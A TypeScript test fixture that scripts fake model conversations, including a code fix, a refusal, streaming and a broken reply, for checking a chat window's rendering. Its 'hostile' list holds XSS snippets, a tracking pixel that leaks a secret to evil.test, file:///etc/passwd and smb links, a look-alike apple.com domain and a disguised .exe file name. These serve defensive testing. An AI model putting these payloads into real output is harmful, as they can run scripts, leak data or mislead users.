/** Conversations that look like work: what a model says to each of these messages, for the window to show. */
import { setTimeout } from "node:timers/promises";
import { gate } from "./flow.ts";
import type { Studio } from "./studio.ts";
import type { Asked, Model, Say } from "./upstream.ts";
import type { Attempt, Client } from "./wire.ts";

export const prompts = {
  fix: "The tray icon is missing on Linux. Find out why and fix it.",
  refused: "Summarise the release notes of version 2.",
  hostile: "Show me what the repository says.",
  live: "Explain how the prefix cache works.",
  chinese: "把设置页面的文案翻译成中文，并检查标点。",
  broken: "Write the changelog.",
} as const;

const finding = `The icon is loaded **after** the tray is created, so Linux gets an empty one.

| platform | icon | result |
|---|---|---|
| Windows | \`tray.ico\` | shown |
| Linux | \`tray.png\` | missing |

\`\`\`ts
const icon = nativeImage.createFromPath(trayPath());
const tray = new Tray(icon); // the icon is there now
\`\`\`

All 42 tests pass. See [the notes](https://example.com/tray) for more.`;

/** Each answer by how many tool results came before it in the turn. */
const steps: Readonly<Record<string, readonly Model[]>> = {
  [prompts.fix]: [
    (_, say) => {
      say.used(18_400, 0, 96);
      for (const piece of [
        "The icon is probably created ",
        "before its file is read. ",
        "I will look at tray.ts first.",
      ])
        say.thinking(piece);
      say.text("I will look at the tray first.");
      say.call("Read", { path: "src/tray.ts" });
    },
    (_, say) => {
      say.used(19_800, 18_300, 210);
      say.call("StrReplace", {
        path: "src/tray.ts",
        old_string: 'const tray = new Tray("");\ntray.setImage(icon());',
        new_string: "const tray = new Tray(icon());",
      });
    },
    (_, say) => {
      say.used(20_300, 19_700, 60);
      say.call("Shell", { command: "npm test -- tray", description: "Runs the tests of the tray" });
    },
    (_, say) => {
      say.used(21_000, 20_200, 240);
      say.text(finding);
    },
  ],
  [prompts.refused]: [
    (_, say) =>
      say.refuse(429, "Rate limit reached for requests. Try again in 20 s.", { "retry-after": "0" }),
  ],
  [prompts.hostile]: [
    (_, say) => {
      say.used(900, 0, 120);
      say.text(hostile);
    },
  ],
  [prompts.chinese]: [
    (_, say) => {
      say.used(6200, 5100, 80);
      say.text(
        "设置页面的文案已翻译完成，共 **12** 处。标点已统一为全角：\n\n- “保存”、“取消”\n- 语言、主题、密度\n",
      );
    },
  ],
};

/** Everything that a page could load or run, and names that are not what they seem. */
export const hostile = [
  "<script>alert(1)</script><img src=x onerror=alert(1)><iframe src=//evil.test></iframe>",
  '<form action="https://evil.test"><input name=a></form><svg><image href="https://evil.test/x.png"/></svg>',
  "![pixel](https://evil.test/leak.png?q=secret)",
  "[run](javascript:alert(1)) [file](file:///etc/passwd) [share](smb://evil.test/x) [own](ownkey://open)",
  "[bank](https://аpple.com/login) <a href='https://evil.test' onclick='alert(1)' style='color:red'>x</a>",
  "invoice\u202egnp.exe and a zero\u200bwidth \u{e0041} tag",
].join("\n\n");

export interface Stage {
  readonly studio: Studio;
  readonly channel: string;
  /** Holds the answer to `prompts.live` open until it is called. */
  readonly letGo: () => void;
}

export const held = gate();

export const scenesModel: Model = async (asked, say) => {
  if (asked.prompt === prompts.live) return speakSlowly(say);
  if (asked.prompt === prompts.broken) return breakOff(asked, say);
  if (asked.tools.includes("echo")) return say.call("echo", { word: "ok" }); // a channel is tested
  const play = steps[asked.prompt];
  const step = play?.[stepOf(asked)];
  if (!step) return say.text("OK.");
  await step(asked, say);
};

function stepOf({ messages }: Asked): number {
  const from = messages.findLastIndex(
    ({ role, content }) => role === "user" && !JSON.stringify(content).startsWith('"<'),
  );
  return messages.slice(from).filter(({ role }) => role === "assistant").length;
}

async function speakSlowly(say: Say): Promise<void> {
  say.used(4100, 3900, 180);
  for (const piece of ["A provider keeps ", "what it has read ", "of a request."]) {
    say.thinking(piece);
    await setTimeout(5);
  }
  for (const piece of [
    "When the next request ",
    "begins with the very same bytes, ",
    "it does not read them again.",
  ]) {
    say.text(piece);
    await setTimeout(5);
  }
  await held.opened;
  say.text(" That is all.");
}

async function breakOff(_: Asked, say: Say): Promise<void> {
  say.text("## Changes\n\nThe first half of the changelog");
  await setTimeout(30);
  say.cut();
}

const ended = async (run: Attempt): Promise<void> => void (await run.ended());

/** A client whose machine has a project to work on. */
export function clientAtWork(studio: Studio): Client {
  const client = studio.client();
  client.machine.files.set(
    `${client.machine.workspace}/src/tray.ts`,
    'import { Tray } from "electron";\n\nexport function createTray() {\n  const tray = new Tray("");\ntray.setImage(icon());\n  return tray;\n}\n',
  );
  client.machine.shell = () => ({
    stdout: [
      "\u001b[32m✔\u001b[0m tray shows its icon (12 ms)\n\u001b[32m✔\u001b[0m tray menu opens\n",
      "\u001b[1m42 passed\u001b[0m\n",
    ],
  });
  return client;
}

/** Plays one turn to its end in a conversation of its own. */
export async function playScene(studio: Studio, channel: string, text: string): Promise<Client> {
  const client = clientAtWork(studio);
  await ended(client.run({ text, model: channel }));
  return client;
}
